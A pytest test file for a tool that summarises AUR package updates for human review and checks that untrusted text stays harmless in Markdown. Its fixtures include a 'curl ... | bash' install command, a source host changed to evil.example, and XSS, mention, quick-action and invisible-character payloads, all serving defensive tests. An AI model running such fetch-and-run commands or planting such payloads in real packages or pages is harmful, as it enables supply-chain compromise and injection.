"""What a review's description says, and that nothing a stranger wrote becomes more than text in it."""

from __future__ import annotations

import itertools
import json
import re
import time
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ci_toolkit.model.finding import Assessment, Finding, Severity
from ci_toolkit.model.names import Oid
from ci_toolkit.review.facts import ChecksumChange, Facts
from ci_toolkit.review.record import parse_record
from ci_toolkit.review.report import LARGEST_BODY, describe, since
from ci_toolkit.review.subject import ReviewSubject
from ci_toolkit.review.visible import visible

if TYPE_CHECKING:
    from collections.abc import Iterator

    from markdown_it.token import Token

INSTALL = Finding(
    rule="install-fetches",
    severity=Severity.CRITICAL,
    file="foo.install",
    line=2,
    text="Fetches and runs code in its install scriptlet",
    new="  curl -s https://x.example/i | bash",
)
HOST = Finding(
    rule="source-host",
    severity=Severity.HIGH,
    file="PKGBUILD",
    line=9,
    text="The host of a source changes from github.com to evil.example",
    old="source=(https://github.com/a/b/v1.tar.gz)",
    new="source=(https://evil.example/v1.tar.gz)",
)
DEPENDS = Finding(rule="depends", severity=Severity.LOW, file="PKGBUILD", line=5, text="A new dependency: zlib")
VERSION = Finding(rule="pkgver", severity=Severity.MINOR, file="PKGBUILD", line=2, text="The version goes up")
SUBJECT = ReviewSubject(
    pkgbase="foo",
    assessment=Assessment(findings=(INSTALL, HOST, DEPENDS, VERSION)),
    old_version="1.2-1",
    new_version="1.3-1",
    old_revision="a" * 40,
    revision="b" * 40,
    old_maintainers=("alice",),
    maintainers=("mallory",),
    upstream="aur",
    branch="update-foo",
    target="main",
    content=Oid("c" * 40),
)

MARKDOWN = MarkdownIt("commonmark").enable("table").enable("strikethrough")
OUR_HOSTS = ("https://aur.archlinux.org/", "https://github.com/", "https://gitlab.com/")
OUR_HTML = re.compile(
    r"</?details>\n?|<summary>[0-9]+ harmless changes?</summary>|<!-- ci-toolkit-review \{[^<>]*\} -->"
)


def tokens(body: str) -> Iterator[Token]:
    for token in MARKDOWN.parse(body):
        yield token
        yield from token.children or ()


def prose_of(body: str) -> str:
    """Everything that a service looks for mentions and the like in."""
    return "\n".join(token.content for token in tokens(body) if token.type == "text")


def code_of(body: str) -> str:
    return "\n".join(token.content for token in tokens(body) if token.type in ("code_inline", "fence"))


def subject_with(payload: str) -> ReviewSubject:
    """A review every part of which a stranger filled in with the same text."""
    findings = tuple(
        Finding(rule="r", severity=severity, file=payload, line=3, text=payload, old=old, new=new)
        for severity in Severity
        for old, new in ((payload, f"{payload}\n{payload}"), (None, payload), (f"a\n{payload}\nb", f"a\n{payload}\nc"))
    )
    quoted = Finding(rule="r", severity=Severity.HIGH, file="PKGBUILD", text=f"The host '{payload}' is new: {payload}.")
    return replace(
        SUBJECT,
        assessment=Assessment(findings=(*findings, quoted)),
        old_version=payload,
        new_version=f"{payload}2",
        revision=payload,
        old_maintainers=(payload, "alice"),
        maintainers=(payload,),
        upstream=payload,
        link=f"https://aur.archlinux.org/{payload}",
        facts=Facts(
            hosts=((payload, payload),),
            commands=((payload, payload),),
            checksums=(ChecksumChange(array=payload, old=(payload,), new=(payload * 2,)),),
        ),
    )


PAYLOADS = {
    "html": "<script>alert(1)</script>",
    "an image of html": "<img src=x onerror=alert(1)>",
    "the end of details": "</details></summary>",
    "the end of a comment": "--> <b>x</b> <!--",
    "a forged record": '<!-- ci-toolkit-review {"schema":1} -->',
    "an entity": "&lt;b&gt; &#64;user &commat;user",
    "a link": "[click](https://evil.example)",
    "a reference": "[x]: https://evil.example\n\n[x]",
    "an image": "![x](https://evil.example/x.png)",
    "a bare address": "https://evil.example/x www.evil.example a@evil.example",
    "an autolink": "<https://evil.example>",
    "a mention": "@everyone @admin cc @group/all",
    "a mention behind text": "hello,@user (@user) '@user' /@user",
    "issues": "fixes #1 closes !2 &3 $4 ~bug %m1 group/project#5 GH-6 ABC-7 ^alert#8",
    "a commit": "deadbeefdeadbeef a94a8fe5ccb19ba61c4c0873d391e987982fbbd3",
    "quick actions": "/merge\n/close\n/approve\n/label ~x",
    "a quick action behind blanks": "x\n\n/merge\n\n   /close",
    "a heading": "# big\n## big\nbig\n===\n---",
    "a list": "1. one\n* two\n- three\n+ four",
    "a quote": "> quoted\n>>>\n/merge\n>>>",
    "a fence": "```\n/merge\n```",
    "a long fence": "`````````\n@user\n`````````",
    "a fence of tildes": "~~~\n@user\n~~~",
    "backticks": "` @user ` `` @user `` ```",
    "one backtick": "`",
    "backslashes": "\\`@user\\` \\| \\\\| \\",
    "a table": "| a | b |\n| --- | --- |\n| @user | c |",
    "emphasis": "**bold** __bold__ *x* ~~gone~~",
    "emoji": ":warning: :+1:",
    "math": "$`x`$ $$x$$ $x$",
    "diff marks": "{+ added +} {- gone -}",
    "contents": "[[_TOC_]]\n\n[TOC]\n\n::include{file=x}",
    "a footnote": "[^1]\n\n[^1]: x",
    "direction": "abc\u202edef\u2066x\u2069",
    "zero widths": "a\u200bb\u200dc\ufeffd\u2060e",
    "controls": "a\x1b[31mb\x07\x00\x08\x7f\x9b31m",
    "line ends": "a\rb\x0bc\x0cd\x85e\u2028f\u2029/merge\r/close",
    "bytes": "a\udcff\udc80b",
    "nothing": "",
    "blanks": "   ",
}


@pytest.mark.parametrize("case", PAYLOADS)
def test_strangers_text_stays_text(case: str) -> None:
    assert_harmless(subject_with(PAYLOADS[case]))


def assert_harmless(subject: ReviewSubject) -> None:
    description = describe(subject)
    assert len(description.body) <= LARGEST_BODY
    for body in (description.body, since(describe(SUBJECT).body, subject), since("", subject)):
        assert_no_markup(body)
    old = describe(subject).body
    assert_no_markup(since(old, SUBJECT))
    assert re.fullmatch(r"[A-Za-z0-9 .,:;()'+=_/→…·–-]+", description.title), description.title
    assert not re.search(r"://|www\.", description.title)
    assert parse_record(description.body) is not None
    # A fence that a stranger closes or leaves open would swallow or add headings.
    parsed = list(tokens(description.body))
    titles = [after.content for token, after in itertools.pairwise(parsed) if token.type == "heading_open"]
    expected = ["Refused", "Critical", "High", "Medium", "Low"] if len(subject.findings) > 1 else []
    assert titles == [*expected, "Your decision"]
    assert sum(token.type == "fence" for token in parsed) == description.body.count("diff\n")


def assert_no_markup(body: str) -> None:
    body.encode()  # no surrogates: a service could not be sent them
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202f\u2060-\u206f\ufeff]", body)
    for line in body.split("\n"):
        assert not line.startswith(("/", "~~~", ">>>", "@", "#!")), line
    for token in tokens(body):
        assert token.type != "image"
        assert token.type not in ("ordered_list_open", "hr", "s_open"), token.type
        if token.type == "link_open":
            assert str(token.attrs["href"]).startswith(OUR_HOSTS), token.attrs
        if token.type in ("html_block", "html_inline"):
            assert all(not rest.strip() for rest in OUR_HTML.split(token.content)), token.content
        if token.type == "heading_open":
            assert token.tag == "h3"
    assert not re.search(r"[@#!~%&$<>`|{}^\\*\[\]]|://|www\.|\b[0-9a-f]{7,}\b|[A-Z]-[0-9]|:[a-z+]", plain(body)), plain(
        body
    )


def plain(body: str) -> str:
    """The text between code, without our own alert and with versions and words of ours only."""
    return prose_of(body).replace("[!CAUTION]", "")


@given(st.text(max_size=80))
@settings(max_examples=50, deadline=None)
def test_no_text_at_all_becomes_markup(payload: str) -> None:
    assert_harmless(subject_with(payload))


@given(st.text(alphabet="`|\\\n @#/<>&-*[]()!~:$", max_size=30))
@settings(max_examples=100, deadline=None)
def test_no_combination_of_marks_becomes_markup(payload: str) -> None:
    assert_harmless(subject_with(payload))


def test_tables_keep_their_shape() -> None:
    for payload in ("a|b", "a\\|b", "\\", "a\nb", "`|`", "|"):
        rows = [token for token in tokens(describe(subject_with(payload)).body) if token.type == "td_open"]
        plain_rows = [token for token in tokens(describe(subject_with("x")).body) if token.type == "td_open"]
        assert len(rows) == len(plain_rows)


def test_pipes_stay_pipes_where_they_may() -> None:
    piped = replace(INSTALL, text="Runs what it fetches: 'curl -s https://x.example | bash'")
    body = describe(replace(SUBJECT, assessment=Assessment(findings=(piped,)), revision="a|b")).body
    assert "**Runs what it fetches: `curl -s https://x.example | bash`**" in body
    assert "| Revision | `a<U+007C>b` |" in body


def test_the_dangerous_stands_on_top_and_everything_needed_is_there() -> None:
    body = describe(SUBJECT).body
    first, box = body.split("\n\n")[:2]
    assert first == (
        "The AUR package `foo` goes from `1.2-1` to `1.3-1`, **under another maintainer**; "
        "a person has to decide (1 critical, 1 high, 1 low, 1 minor)."
    )
    assert box == (
        "> [!CAUTION]\n"
        "> **Fetches and runs code in its install scriptlet** (`foo.install:2`): `curl -s https://x.example/i | bash`\n"
        ">\n"
        "> The maintainer changed, too: `alice` → **`mallory`**."
    )
    assert "| Maintainer | **changed:** `alice` → **`mallory`** |" in body
    assert f"https://aur.archlinux.org/cgit/aur.git/commit/?h=foo&id={'b' * 40}" in body
    assert f"&id={'b' * 40}&id2={'a' * 40}" in body
    assert body.index("### Critical") < body.index("### High") < body.index("### Low") < body.index("1 harmless change")
    assert "```diff\n+  curl -s https://x.example/i | bash\n```" in body
    assert "```diff\n-source=(https://github.com/a/b/v1.tar.gz)\n+source=(https://evil.example/v1.tar.gz)\n```" in body
    assert "In `PKGBUILD:9`" in body
    assert "**Merge** this" in body
    assert "**Close** this" in body
    assert "`ci-toolkit review foo`" in body


@pytest.mark.parametrize(
    ("severity", "ending"),
    [
        (Severity.MINOR, ""),
        (Severity.LOW, ""),
        (Severity.MEDIUM, ""),
        (Severity.HIGH, " – high: Fetches and runs code"),
        (Severity.CRITICAL, " – critical: Fetches and runs code"),
        (Severity.REFUSE, " – refused: Fetches and runs code"),
    ],
)
def test_titles_tell_reviews_apart(severity: Severity, ending: str) -> None:
    finding = replace(INSTALL, severity=severity, text="Fetches and runs code")
    title = describe(replace(SUBJECT, assessment=Assessment(findings=(VERSION, finding)))).title
    assert title == f"chore(update): foo 1.2-1 → 1.3-1{ending}"


def test_titles_are_short_and_say_it_when_the_version_stays() -> None:
    wordy = Assessment(findings=(replace(INSTALL, text="word " * 200),))
    title = describe(replace(SUBJECT, assessment=wordy, old_version="1" * 300, new_version="2" * 300)).title
    assert len(title) <= 200
    assert title.startswith("chore(update): foo 111")
    assert "critical" in title
    same = describe(replace(SUBJECT, new_version="1.2-1", assessment=Assessment(findings=(DEPENDS,))))
    assert same.title == "chore(update): foo 1.2-1 again"
    assert "changes without a new version" in same.body


def test_what_is_not_known_is_not_invented() -> None:
    body = describe(ReviewSubject(pkgbase="foo", assessment=Assessment(findings=(DEPENDS,)), new_version="1-1")).body
    assert "The package `foo` is new here, in version `1-1`" in body
    for word in ("Maintainer", "Upstream", "Revision", "Branch", "None", "[!CAUTION]", "New hosts"):
        assert word not in body, word


def test_orphans_and_equal_maintainers() -> None:
    assert "nobody, the package is orphaned" in describe(replace(SUBJECT, maintainers=())).body
    assert "| Maintainer | `alice` |" in describe(replace(SUBJECT, maintainers=("alice",))).body
    adopted = describe(replace(SUBJECT, old_maintainers=())).body
    assert "**changed:** nobody (it was orphaned) → **`mallory`**" in adopted


def test_what_must_not_be_taken_is_not_offered_for_merging() -> None:
    refused = Finding(rule="r", severity=Severity.REFUSE, file="x", text="A link leaves the folder")
    body = describe(replace(SUBJECT, assessment=Assessment(findings=(refused,)))).body
    assert "**it must not be taken**" in body
    assert "**Merge**" not in body


def many(count: int, severity: Severity, size: int) -> tuple[Finding, ...]:
    return tuple(
        Finding(
            rule="r",
            severity=severity,
            file="PKGBUILD",
            line=number,
            text=f"Something is new, number {number}",
            new="".join(f"{number} line {line} {'x' * 60}\n" for line in range(size)),
        )
        for number in range(count)
    )


def test_the_size_is_limited_and_the_least_severe_go_first() -> None:
    findings = (*many(900, Severity.LOW, 30), *many(3, Severity.CRITICAL, 30), *many(50, Severity.MINOR, 1))
    body = describe(replace(SUBJECT, assessment=Assessment(findings=findings))).body
    assert 50_000 < len(body) <= LARGEST_BODY
    critical = body[body.index("### Critical") : body.index("### Low")]
    assert critical.count("```diff") == 3
    assert critical.count("+2 line ") == 30
    left = re.search(r"\*\*([0-9]+) more findings\*\* \(low\) have no room here", body)
    assert left
    assert body.count("In `PKGBUILD:") - 50 <= 903 - int(left[1])
    assert body.rstrip().endswith("-->")
    assert "**Close** this" in body
    record = parse_record(body)
    assert record is not None
    assert [finding.severity for finding in record.findings[:3]] == [Severity.CRITICAL] * 3
    assert record.left_out == len(findings) - len(record.findings) > 0


def test_one_huge_finding_does_not_keep_out_the_others() -> None:
    huge = replace(INSTALL, new="\n".join(f"echo {number} {'y' * 5000}" for number in range(100_000)))
    body = describe(replace(SUBJECT, assessment=Assessment(findings=(huge, HOST, DEPENDS)))).body
    assert len(body) <= LARGEST_BODY
    assert "99,960 more lines" in body
    assert "more characters>" in body
    assert "+source=(https://evil.example/v1.tar.gz)" in body


def test_differences_that_cannot_be_seen_are_shown() -> None:
    for old, new, shown in (
        ("a", "a  ", "+a<U+0020><U+0020>"),
        ("a\n", "a", "+a<end of text>"),
        ("a", "a\r", "+a<U+000D>"),
        ("pkgver=1", "pkgv\u0435r=1", "+pkgv<U+0435>r=1"),
        ("x=1", "x=\uff11", "+x=<U+FF11>"),
        ("a b", "a\u00a0b", "+a<U+00A0>b"),
        ("a", f"a{' ' * 300}; evil", "+a  <300 blanks>  ; evil"),
    ):
        finding = replace(DEPENDS, severity=Severity.HIGH, old=old, new=new)
        assert shown in code_of(describe(replace(SUBJECT, assessment=Assessment(findings=(finding,)))).body)


def test_ordinary_words_of_other_languages_stay_readable() -> None:
    for text in ("Gestión de música", "Просмотр файлов", "音楽プレーヤー", "naïve café"):
        assert visible(text) == text
    assert visible("pаypal") == "p<U+0430>ypal"


def test_lines_around_a_change_are_shown_with_it_and_shown_once() -> None:
    old = "".join(f"line {number}\n" for number in range(30))
    finding = replace(HOST, old=old, new=old.replace("line 15\n", "line 15 evil\n"))
    again = replace(finding, rule="other", text="The same again.")
    body = describe(replace(SUBJECT, assessment=Assessment(findings=(finding, again)))).body
    assert "```diff\n line 13\n line 14\n-line 15\n+line 15 evil\n line 16\n line 17\n```" in body
    assert body.count("+line 15 evil") == 1
    # Everything that is said of some lines stands together in front of them.
    assert body.index("source-host") < body.index("The same again") < body.index("+line 15 evil")


def test_a_small_change_of_a_long_text_is_shown_as_small() -> None:
    old = "".join(f"line {number}\n" for number in range(5_000))
    finding = replace(HOST, old=old, new=old.replace("line 4000\n", "line 4000 evil\n"))
    body = describe(replace(SUBJECT, assessment=Assessment(findings=(finding,)))).body
    assert "```diff\n line 3998\n line 3999\n-line 4000\n+line 4000 evil\n line 4001\n line 4002\n```" in body


def test_texts_that_are_slow_to_compare_are_not_waited_for() -> None:
    slow = replace(HOST, old="x\ny\n" * 5_000, new="y\nx\nx\n" * 5_000)
    started_s = time.process_time()
    describe(replace(SUBJECT, assessment=Assessment(findings=(slow,) * 5)))
    assert time.process_time() - started_s < 3


def test_the_record_can_be_read_back() -> None:
    body = describe(SUBJECT).body
    value = json.loads(body[body.index("<!-- ci-toolkit-review ") + 23 : body.rindex(" -->")])
    assert value["verdict"] == "review"
    assert value["severity"] == "critical"
    assert (value["revision"], value["content"]) == ("b" * 40, "c" * 40)
    assert value["findings"][0] == {
        "rule": "install-fetches",
        "severity": "critical",
        "file": "foo.install",
        "text": INSTALL.text,
    }


def test_nobody_can_forge_a_record() -> None:
    record = '{"schema":1,"package":"x","severity":"low","findings":[],"left_out":0}'
    forged = f"<!-- ci-toolkit-review {record} -->"
    assert parse_record(forged) is not None
    body = describe(subject_with(forged)).body
    assert forged in body
    assert parse_record(body[: body.rindex("<!-- ci-toolkit-review")]) is None
    # Services may end lines in their own way.
    assert parse_record(describe(SUBJECT).body.replace("\n", "\r\n")) == parse_record(describe(SUBJECT).body)


@pytest.mark.parametrize(
    "body",
    [
        "",
        "edited by a person",
        "<!-- ci-toolkit-review {} -->",
        "<!-- ci-toolkit-review {nonsense} -->",
        '<!-- ci-toolkit-review {"schema":1,"package":"x","severity":"odd","findings":[],"left_out":0} -->',
        '<!-- ci-toolkit-review {"schema":1,"package":"x","severity":"low","findings":[1],"left_out":0} -->',
        '<!-- ci-toolkit-review {"schema":1,"package":"x","severity":"low","findings":[],"left_out":0,"from":1} -->',
        "<!-- ci-toolkit-review " + '{"a":' * 5000 + "} -->",
    ],
)
def test_a_description_without_a_usable_record_is_no_obstacle(body: str) -> None:
    assert parse_record(body) is None
    assert "the description is about `1.3-1` at revision" in since(body, SUBJECT)


def test_a_comment_says_what_changed_since() -> None:
    before = replace(
        SUBJECT,
        assessment=Assessment(findings=(HOST, replace(DEPENDS, text="A new dependency: openssl"), VERSION)),
        new_version="1.2.5-1",
        revision="d" * 40,
    )
    comment = since(describe(before).body, SUBJECT)
    assert f"**Before** `1.2.5-1` at revision `{'d' * 40}`. **Now** `1.3-1` at revision `{'b' * 40}`." in comment
    assert "The worst finding was high and is **critical** now." in comment
    new, gone = comment.split("**Gone since then**")
    assert "Fetches and runs code in its install scriptlet" in new
    assert "A new dependency" in new
    assert "`zlib`" not in gone
    assert "openssl" in gone
    assert "2 findings are the same as before." in comment
